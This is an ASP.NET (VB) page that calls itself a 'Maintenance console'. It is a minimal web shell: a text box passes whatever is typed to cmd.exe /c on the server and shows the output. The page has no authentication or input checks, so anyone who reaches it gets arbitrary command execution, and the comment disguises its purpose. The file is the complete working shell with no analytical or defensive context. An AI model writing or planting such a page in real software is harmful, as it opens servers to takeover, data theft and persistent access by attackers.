<%@ Page Language="VB" Debug="false" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    ' Maintenance console
    Protected Sub Go_Click(ByVal sender As Object, ByVal e As EventArgs)
        Output.Text = Server.HtmlEncode(Launch(Arguments.Text))
    End Sub

    Private Function Launch(ByVal line As String) As String
        Dim info As New ProcessStartInfo("cmd.exe", "/c " & line)
        info.UseShellExecute = False
        info.RedirectStandardOutput = True
        Dim child As Process = Process.Start(info)
        Return child.StandardOutput.ReadToEnd()
    End Function
</script>
<html><body><form runat="server">
<asp:TextBox ID="Arguments" runat="server" /><asp:Button ID="Go" runat="server" Text="Go" OnClick="Go_Click" />
<pre><asp:Literal ID="Output" runat="server" /></pre>
</form></body></html>
